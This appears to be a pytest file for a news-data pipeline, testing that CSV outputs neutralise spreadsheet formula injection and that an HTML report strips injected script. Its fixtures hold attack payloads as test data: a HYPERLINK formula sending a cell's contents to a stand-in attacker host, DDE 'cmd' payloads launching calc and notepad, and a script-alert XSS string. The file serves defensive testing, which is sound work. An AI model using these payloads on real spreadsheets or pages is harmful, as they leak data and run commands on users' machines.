"""CSV safety for spreadsheet users (pipeline/csvsafe.py): an article whose title, outlet and
text carry formula and script payloads yields CSV cells that start no formula, raw values in
Parquet and SQLite, and a report that embeds no live script."""

from __future__ import annotations

import csv
import json
import sqlite3
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline import csvsafe, run, schema
from pipeline.config import Paths

TITLE = '=HYPERLINK("http://attacker.invalid/?x="&A1,"open")'
OUTLET = "@SUM(1+1)*cmd|' /C calc'!A0"
TEXT = ("+cmd|' /C notepad'!A1 <script>alert('x')</script>\n\n"
        "-2+3 Russian air defences shot down 14 Ukrainian drones over the Kursk region overnight, "
        "the Russian Defence Ministry said on Wednesday.\n")


@given(st.text())
def test_neutralise_is_reversible_and_never_starts_a_formula(s):
    out = csvsafe.neutralise(s)
    assert csvsafe.restore(out) == s
    assert not out.startswith(csvsafe.TRIGGERS)


def test_only_trigger_and_quote_cells_change():
    assert [csvsafe.neutralise(s) for s in ["=1+1", "+7", "-x", "@A1", "\tx", "\rx", "'q", "Kyiv", ""]] == \
        ["'=1+1", "'+7", "'-x", "'@A1", "'\tx", "'\rx", "''q", "Kyiv", ""]


@pytest.fixture(scope="module")
def payload_run(tmp_path_factory):
    root = tmp_path_factory.mktemp("payload")
    raw = root / "raw"
    raw.mkdir()
    (raw / "evil.txt").write_text(TEXT, encoding="utf-8")
    (raw / "evil.meta.json").write_text(json.dumps({
        "id": "=1+2", "url": "https://example.org/evil", "outlet": OUTLET, "language": "en",
        "published": "2025-11-05", "title": TITLE}), encoding="utf-8")
    paths = Paths(raw, root / "interim", root / "processed")
    run.run_all(paths)
    return paths


def _cells(path: Path):
    with open(path, encoding="utf-8", newline="") as fh:
        reader = csv.reader(fh)
        header = next(reader)
        for row in reader:
            yield from zip(header, row)


def _is_number(s: str) -> bool:
    try:
        float(s)
        return True
    except ValueError:
        return False


def test_no_csv_cell_starts_a_formula(payload_run):
    out = Path(payload_run.processed_dir)
    seen = 0
    for name in schema.TABLES:
        for col, cell in _cells(out / f"{name}.csv"):
            seen += 1
            if cell.startswith(csvsafe.TRIGGERS):
                assert _is_number(cell), (name, col, cell)
    assert seen
    articles = pd.read_csv(out / "articles.csv", dtype=str, keep_default_na=False)
    assert articles.loc[0, ["title", "outlet", "doc_id"]].tolist() == ["'" + TITLE, "'" + OUTLET, "'=1+2"]
    mentions = pd.read_csv(out / "mentions.csv", dtype=str, keep_default_na=False)
    assert len(mentions) >= 1


def test_typed_outputs_and_readers_keep_raw_values(payload_run):
    out = Path(payload_run.processed_dir)
    assert pd.read_parquet(out / "articles.parquet").loc[0, "title"] == TITLE
    with sqlite3.connect(out / "airwar.sqlite") as con:
        assert con.execute("select outlet, doc_id from articles").fetchone() == (OUTLET, "=1+2")
    assert schema.read_table(out / "articles.csv", "articles").loc[0, "outlet"] == OUTLET


def test_report_embeds_no_injected_script(payload_run):
    html = (Path(payload_run.processed_dir) / "report.html").read_text(encoding="utf-8")
    assert "<script>alert(" not in html
